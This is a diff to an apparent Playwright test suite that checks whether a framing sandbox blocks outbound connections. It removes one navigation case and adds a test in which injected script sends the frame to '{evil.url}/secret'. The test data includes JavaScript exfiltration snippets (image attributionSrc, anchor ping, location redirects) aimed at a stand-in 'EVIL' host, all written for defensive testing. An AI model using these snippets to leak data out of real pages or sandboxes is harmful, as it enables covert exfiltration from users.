@@ -76,7 +76,6 @@ WAYS = {
         "i=new Image();i.attributionSrc='EVIL/a';i.setAttribute('attributionsrc','EVIL/b');i.src='data:,';"
         "document.body.append(i);a=document.createElement('a');a.href='EVIL';a.ping='EVIL/p';document.body.append(a)"
     ),
-    "led": "location='EVIL'",
 }
 EVERYWHERE = {
     "static",
@@ -140,7 +139,7 @@ def _connections(eager: BrowserContext, way: str, *, filtered: bool) -> int:
             page = eager.new_page()
             page.goto(address)
             if filtered:
-                if way not in ("document-written", "led"):
+                if way != "document-written":
                     page.wait_for_function("() => window.alive === true")
                 # What was asked for before has arrived by the time that this has.
                 page.evaluate("url => fetch(url, {mode: 'no-cors'}).then(() => null)", f"{evil.url}/settled/")
@@ -159,6 +158,21 @@ def test_without_rules_a_frame_connects(eager: BrowserContext, way: str) -> None
 @pytest.mark.parametrize("way", WAYS)
 def test_a_frame_connects_nowhere(eager: BrowserContext, way: str) -> None:
     assert _connections(eager, way, filtered=True) == 0
+
+
+def test_a_frame_that_leads_itself_elsewhere_asks_for_nothing(eager: BrowserContext) -> None:
+    """Chromium connects before it asks whether a frame may be led there; what would be asked for stays unsaid."""
+    with recording_listener() as evil:
+        output = f"<p>chart</p><script>location='{evil.url}/secret'</script>"
+        with _served(f"<!DOCTYPE html>{framed(output, ())}") as address:
+            page = eager.new_page()
+            page.goto(address)
+            inner = page.frames[-1]
+            wait_until(lambda: inner.is_detached() or inner.url != "about:srcdoc", "it was refused")
+            page.evaluate("url => fetch(url, {mode: 'no-cors'}).then(() => null)", f"{evil.url}/settled/")
+            wait_until(lambda: "settled" in evil.paths(), "the page's own request has arrived")
+            page.close()
+        assert evil.paths() == {"settled"}
 
 
 def test_style_sheets_of_listed_hosts_are_loaded_however_they_are_made(eager: BrowserContext) -> None:
